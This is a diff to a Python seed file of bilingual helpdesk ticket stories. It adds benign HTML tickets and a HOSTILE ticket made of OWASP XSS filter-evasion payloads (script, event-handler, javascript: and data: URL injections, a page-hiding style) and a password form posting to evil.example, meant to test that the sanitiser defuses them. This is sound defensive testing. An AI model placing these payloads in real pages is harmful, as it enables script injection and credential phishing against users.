@@ -1,7 +1,9 @@
 """Support ticket stories, each written once in English and once in French.
 
 A customer's tickets are told in its language (``people.FRENCH_SPEAKING``). Descriptions are
-small, already safe HTML: only paragraphs, lists, emphasis and line breaks.
+helpdesk HTML: paragraphs, lists, emphasis, links and tables; the seed sanitises them as the
+integration API does. ``HOSTILE`` is the one description written to attack the portal (OWASP
+filter-evasion examples): the sanitiser must defuse it, and a browser test checks it stays inert.
 """
 
 from typing import NamedTuple
@@ -149,4 +151,74 @@ STORIES: tuple[TicketStory, ...] = (
         "<p>Nous souhaitons passer l'accès de notre agence de Nantes de 500 Mbit/s à "
         "1 Gbit/s. Quels sont le délai et l'impact ?</p>",
     ),
+    TicketStory(
+        "incident",
+        "Intermittent latency on the Lyon–Marseille ethernet line",
+        "Latence intermittente sur la ligne ethernet Lyon–Marseille",
+        "<p>Our monitoring shows latency peaks on the line, see the figures below.</p>"
+        "<table><thead><tr><th>Time (UTC)</th><th>Latency</th><th>Loss</th></tr></thead>"
+        "<tbody><tr><td>08:00</td><td>4.1 ms</td><td>0 %</td></tr>"
+        "<tr><td>08:15</td><td>38.7 ms</td><td>1.2 %</td></tr>"
+        "<tr><td>08:30</td><td>4.3 ms</td><td>0 %</td></tr></tbody></table>"
+        "<ol><li>The router log and a traffic graph are attached.</li>"
+        '<li>Our status page: <a href="https://status.acme-networks.test/incidents/118">'
+        "incident 118</a>.</li></ol>"
+        '<p>Contact our NOC at <a href="mailto:noc@acme-networks.test">'
+        "noc@acme-networks.test</a>.</p>",
+        "<p>Notre supervision relève des pics de latence sur la ligne, voir ci-dessous.</p>"
+        "<table><thead><tr><th>Heure (UTC)</th><th>Latence</th><th>Pertes</th></tr></thead>"
+        "<tbody><tr><td>08:00</td><td>4,1 ms</td><td>0 %</td></tr>"
+        "<tr><td>08:15</td><td>38,7 ms</td><td>1,2 %</td></tr>"
+        "<tr><td>08:30</td><td>4,3 ms</td><td>0 %</td></tr></tbody></table>"
+        "<ol><li>Le journal du routeur et un graphe de trafic sont joints.</li>"
+        '<li>Notre page d\'état : <a href="https://status.acme-networks.test/incidents/118">'
+        "incident 118</a>.</li></ol>"
+        '<p>Contactez notre NOC : <a href="mailto:noc@acme-networks.test">'
+        "noc@acme-networks.test</a>.</p>",
+    ),
+    TicketStory(
+        "request",
+        "Change window for the firmware upgrade of our CPE",
+        "Créneau pour la mise à jour logicielle de notre CPE",
+        "<p>We would like to schedule the firmware upgrade of our CPE:</p>"
+        "<ul><li><strong>Preferred:</strong> Tuesday 22:00–23:00</li>"
+        "<li><strong>Fallback:</strong> Thursday 22:00–23:00</li></ul>"
+        '<p>Release notes: <a href="https://vendor.example/firmware/7.4">firmware 7.4</a>.'
+        "</p><blockquote>Expected outage: under 10 minutes.</blockquote>",
+        "<p>Nous souhaitons planifier la mise à jour logicielle de notre CPE :</p>"
+        "<ul><li><strong>Souhaité :</strong> mardi 22 h–23 h</li>"
+        "<li><strong>Repli :</strong> jeudi 22 h–23 h</li></ul>"
+        '<p>Notes de version : <a href="https://vendor.example/firmware/7.4">firmware 7.4</a>.'
+        "</p><blockquote>Coupure attendue : moins de 10 minutes.</blockquote>",
+    ),
+)
+
+# A description written by an attacker (OWASP XSS filter-evasion examples): sanitised by the
+# seed like any other, so what is stored and shown is inert text and a harmless link.
+HOSTILE = TicketStory(
+    "incident",
+    "Suspicious content pasted from a web form",
+    "Contenu suspect collé depuis un formulaire web",
+    "<p>Pasted from our web form:</p>"
+    "<script>alert('XSS')</script>"
+    "<img src=x onerror=\"alert('XSS')\">"
+    "<a href=\"javascript:alert('XSS')\">click here</a> "
+    "<a href=\"jav&#x09;ascript:alert('XSS');\">or here</a> "
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">or there</a>'
+    '<p style="background:url(javascript:alert(1))" onmouseover="alert(\'XSS\')">'
+    'Hover me</p><<SCRIPT>alert("XSS");//\\<</SCRIPT>'
+    "<style>body { display: none; }</style>"
+    '<form action="https://evil.example"><input name="password"></form>'
+    "<iframe src=\"javascript:alert('XSS')\"></iframe><svg/onload=alert('XSS')>",
+    "<p>Collé depuis notre formulaire web :</p>"
+    "<script>alert('XSS')</script>"
+    "<img src=x onerror=\"alert('XSS')\">"
+    "<a href=\"javascript:alert('XSS')\">cliquez ici</a> "
+    "<a href=\"jav&#x09;ascript:alert('XSS');\">ou ici</a> "
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">ou là</a>'
+    '<p style="background:url(javascript:alert(1))" onmouseover="alert(\'XSS\')">'
+    'Survolez-moi</p><<SCRIPT>alert("XSS");//\\<</SCRIPT>'
+    "<style>body { display: none; }</style>"
+    '<form action="https://evil.example"><input name="password"></form>'
+    "<iframe src=\"javascript:alert('XSS')\"></iframe><svg/onload=alert('XSS')>",
 )
